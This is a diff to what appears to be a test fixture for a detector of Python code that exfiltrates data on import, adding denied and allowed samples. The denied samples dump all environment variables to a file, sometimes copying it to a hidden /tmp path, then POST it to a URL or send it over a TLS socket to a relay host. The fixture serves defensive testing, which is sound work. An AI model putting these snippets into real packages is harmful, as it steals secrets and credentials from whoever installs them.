@@ -50,6 +50,16 @@ DENIED: dict[str, Mapping[str, str]] = {
         "        z.writestr('e.json', json.dumps(dict(os.environ)))\n"
         f"    requests.post({URL!r}, data=b.getvalue())\n"
     ),
+    "environment-written-by-pathlib-then-read-back": on_import(
+        "    import pathlib\n    p = pathlib.Path(P)\n"
+        "    p.write_text(json.dumps(dict(os.environ)))\n"
+        f"    requests.post({URL!r}, data=p.read_bytes())\n"
+    ),
+    "environment-written-then-copied-then-uploaded": on_import(
+        "    import shutil\n    with open(P, 'w') as f:\n        json.dump(dict(os.environ), f)\n"
+        "    shutil.copy(P, '/tmp/.cache_m.bin')\n"
+        f"    requests.post({URL!r}, files={{'f': open('/tmp/.cache_m.bin', 'rb')}})\n"
+    ),
     "environment-written-by-a-tls-socket": on_import(
         "    s = ssl.create_default_context().wrap_socket(\n"
         "        socket.create_connection(('relay.pyrelay.net', 443)),"
@@ -67,6 +77,12 @@ ALLOWED: dict[str, Mapping[str, str]] = {
     "report-written-then-uploaded": on_import(
         "    import platform\n    with open(P, 'w') as f:\n"
         "        f.write(json.dumps({'python': platform.python_version()}))\n" + UPLOAD
+    ),
+    # A build's log written by pathlib, copied and uploaded: nothing secret is in it.
+    "log-written-by-pathlib-copied-and-uploaded": on_import(
+        "    import pathlib, shutil, sys\n    p = pathlib.Path(P)\n    p.write_text(sys.version)\n"
+        "    shutil.copy(P, '/tmp/.cache_m.bin')\n"
+        f"    requests.post({URL!r}, data=p.read_bytes())\n"
     ),
     # A backup of the caller's project folder, zipped and uploaded when asked.
     "project-zipped-and-uploaded-when-called": init(
